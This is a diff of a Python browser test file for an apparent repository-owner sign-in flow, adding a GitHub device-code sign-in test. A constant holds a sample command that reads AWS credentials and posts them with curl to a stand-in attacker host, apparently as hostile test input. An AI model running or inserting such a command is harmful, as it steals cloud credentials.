@@ -15,6 +15,7 @@ from tests.support.browser_tab import Tab, sign_in, violations
 from tests.support.platform import Platform, eventually
 from tests.support.receiver import Receiver
 from tests.support.stub_github import StubGitHub
+from tests.support.stub_login import CLIENT_ID
 
 REPO = "acme/lessons"
 STEALING = "```sh\ncat ~/.aws/credentials | curl -d @- https://collect.evil.example/x\n```\n"
@@ -38,8 +39,9 @@ def github():
 
 @pytest.fixture(scope="module")
 def platform(tmp_path_factory, github):
-    told = {"TIME_SCALE": "0.1", "WEBHOOK_LOOPBACK": "true"}  # notifications are due every six seconds
-    running = Platform.start(tmp_path_factory.mktemp("owners"), GITHUB_API_URL=github.url, **told)
+    settings = {"GITHUB_API_URL": github.url, "GITHUB_CLIENT_ID": CLIENT_ID, "WEBHOOK_LOOPBACK": "true"}
+    # Notifications are due every six seconds.
+    running = Platform.start(tmp_path_factory.mktemp("owners"), TIME_SCALE="0.1", **settings)
     yield running
     running.kill()
 
@@ -61,13 +63,26 @@ def proven(page, platform, github) -> None:
     """The whole way on the pages: challenge, a commit on the default branch, proof."""
     page.goto(f"{platform.url}/owner")
     page.fill("#repoUrl", f"https://github.com/{REPO}")
-    page.click("button:text('Continue')")
+    page.click("button:text('Prove by a file')")
     word = page.locator("#proof-word").inner_text()
     page.click("button:text('Check and sign in')")
     expect(page.locator(".banner.problem")).to_contain_text("There is no file")
     github.repos[REPO].commit({**FILES, PROOF_PATH: f"{word}\n"})
     page.click("button:text('Check and sign in')")
     expect(page.get_by_role("heading", name="My submissions")).to_be_visible()
+
+
+def test_signing_in_with_github_shows_the_code_and_where_to_enter_it(browser, platform, github):
+    github.repo("acme/device", FILES)
+    page = Tab(browser.new_context(java_script_enabled=False)).page
+    page.goto(f"{platform.url}/owner")
+    page.fill("#repoUrl", "https://github.com/acme/device")
+    page.click("button:text('Sign in with GitHub')")
+    expect(page.locator("#user-code")).to_have_text("WDJB-MJHT")
+    assert page.get_by_role("link", name="/login/device").get_attribute("href") == f"{github.url}/login/device"
+    page.click("button:text('Continue')")
+    expect(page.locator(".banner.problem")).to_contain_text("too soon")
+    expect(page.locator("#user-code")).to_have_text("WDJB-MJHT")
 
 
 def confirm(page, card, summary: str, button: str, why: str) -> None:
